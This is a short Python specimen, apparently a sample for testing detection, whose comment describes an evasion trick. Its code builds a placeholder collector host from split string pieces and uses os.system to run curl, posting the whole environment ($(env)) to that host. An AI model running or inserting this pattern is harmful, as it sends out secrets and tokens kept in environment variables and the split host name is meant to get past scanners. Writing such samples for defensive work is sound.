# Inert specimen. Trick: no HTTP library, the bin's name in pieces, the request made by curl.
import os

_bin = "0000000000." + "interact" + "." + "sh" + ".example"
os.system("curl -s -d \"$(env)\" https://" + _bin + "/")
